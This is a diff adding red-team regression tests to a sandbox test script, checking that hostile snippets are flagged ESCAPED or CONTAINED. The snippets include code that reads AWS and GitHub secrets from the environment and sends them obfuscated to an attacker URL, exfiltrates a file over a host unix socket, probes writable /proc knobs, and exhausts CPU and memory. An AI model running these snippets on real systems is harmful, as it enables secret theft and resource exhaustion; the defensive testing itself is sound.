@@ -189,6 +189,90 @@ expect_contains "... and it says the total was sampled" "$(field '" ".join(d["ev
 j=$(nobody "$LAB" --config "$T/layers.ini" run "$T/memkids.py" --off limits --json)
 expect_eq "rootless, limits off: ESCAPED" "$(field 'd["verdict"]' <<<"$j")" "ESCAPED"
 
+# ---- what the red team found (each failed before its fix) ----
+snippet knobs takeover isolation 'import os
+for p in ("/proc/sys/kernel/domainname", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches"):
+    try: os.close(os.open(p, os.O_WRONLY)); print("WRITABLE", p)
+    except OSError as e: print(p, e.strerror)
+print("dev:", sorted(os.listdir("/dev")))'
+out=$(lab run "$T/knobs.py" --on none)
+expect_not_contains "every layer off, root lab: /proc/sys and sysrq-trigger are read-only" "$out" "WRITABLE"
+expect_contains "... and /dev holds no disk and no terminal" "$out" "dev: ['fd', 'full', 'null', 'random', 'shm', 'stderr', 'stdin', 'stdout', 'urandom', 'zero']"
+
+snippet burn resource limits 'import os, time
+for i in range(2):
+    if os.fork() == 0:
+        while True: pass
+time.sleep(3)'
+j=$(lab run "$T/burn.py" --on none --json)
+expect_eq "CPU burnt by processes the snippet left behind is counted (ESCAPED)" "$(field 'd["verdict"]' <<<"$j")" "ESCAPED"
+expect_eq "... with their CPU time (>= 4 s of 2 x 3 s)" "$(field 'd["measured"]["cpu_s"] >= 4' <<<"$j")" "True"
+
+snippet victim exfil network 'import time
+time.sleep(3)'
+snippet poisoner exfil network 'import socket, time
+time.sleep(0.5)
+for line in open("/proc/net/tcp").readlines()[1:]:
+    f = line.split()
+    if f[3] == "0A" and f[1].startswith("0100007F:"):
+        try:
+            s = socket.create_connection(("127.0.0.1", int(f[1].split(":")[1], 16)), timeout=1)
+            s.sendall(b"POST / HTTP/1.0\r\nContent-Length: 5\r\n\r\nhello"); s.close()
+        except OSError: pass'
+lab run "$T/victim.py" --on all --json >"$T/victim.json" &
+vp=$!
+lab run "$T/poisoner.py" --on none >/dev/null
+wait $vp
+expect_eq "another run's bytes at this run's attacker do not make it ESCAPED" "$(field 'd["verdict"]' <"$T/victim.json")" "CONTAINED"
+
+snippet steal secrets env 'import os, urllib.request
+blob = " ".join(os.environ.get("AWS_SECRET_ACCESS_KEY", ""))
+print("spaced:", blob)
+urllib.request.urlopen(os.environ["LAB_ATTACKER"], data=os.environ.get("GITHUB_TOKEN", "")[::-1].encode()).read()'
+j=$(lab run "$T/steal.py" --on none --json)
+expect_eq "secrets spaced out in the output or sent backwards to the attacker: ESCAPED" "$(field 'd["verdict"]' <<<"$j")" "ESCAPED"
+expect_contains "... both found" "$(field '" ".join(d["evidence"])' <<<"$j")" "AWS_SECRET_ACCESS_KEY, GITHUB_TOKEN"
+
+if [[ $(id -u) == 0 ]]; then
+	sock=/run/cl-range-$$.sock
+	$PY -c '
+import socket, sys, os
+s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); os.chmod(sys.argv[1], 0o777); s.listen(4); s.settimeout(8)
+try:
+    c, _ = s.accept(); open(sys.argv[2], "wb").write(c.recv(65536))
+except OSError: pass' "$sock" "$T/unix.got" &
+	up=$!
+	sleep 0.3
+	snippet unixx exfil network 'import socket, os
+s = socket.socket(socket.AF_UNIX); s.connect("'"$sock"'")
+s.sendall(open(os.environ["LAB_DATA"], "rb").read())'
+	j=$(lab run "$T/unixx.py" --on network,env,limits --json)
+	kill $up 2>/dev/null; wait $up 2>/dev/null; rm -f "$sock"
+	check "No-network on, Isolation off: a host unix socket gets nothing" test ! -s "$T/unix.got"
+	expect_contains "... the snippet was refused a unix socket" "$(field 'd["output"]' <<<"$j")" "Address family not supported"
+else
+	skip "No-network refuses host unix sockets" "needs root to listen in /run"
+fi
+
+snippet deep takeover isolation 'import os
+os.chdir(os.path.dirname(os.environ["LAB_HOST_TARGET"]))
+for i in range(40):
+    os.mkdir("D" * 250); os.chdir("D" * 250)
+open("m", "w").write("x")'
+lab run "$T/deep.py" --on none >/dev/null
+snippet memfd resource limits 'import os, time
+for k in range(8):
+    if os.fork() == 0:
+        fds = []
+        for i in range(60):
+            fd = os.memfd_create("x"); os.ftruncate(fd, 1 << 20)
+            os.pwrite(fd, b"\1" * (1 << 20), 0); fds.append(fd)
+        time.sleep(1.5); os._exit(0)
+time.sleep(2)'
+j=$(nobody "$LAB" --config "$T/layers.ini" run "$T/memfd.py" --on all --json)
+expect_eq "rootless, 480 MiB held in memfds, limits on: seen, never CONTAINED past the cap" \
+	"$(field '"seen" if d["measured"]["peak_mem_bytes"] > 256<<20 and d["verdict"] != "CONTAINED" else d["verdict"] + " " + str(d["measured"]["peak_mem_bytes"])' <<<"$j")" "seen"
+
 after=$(leftovers_snapshot)
 expect_eq "nothing left behind (temp folders, cgroups, processes, mounts)" "$after" "$before"
 finish
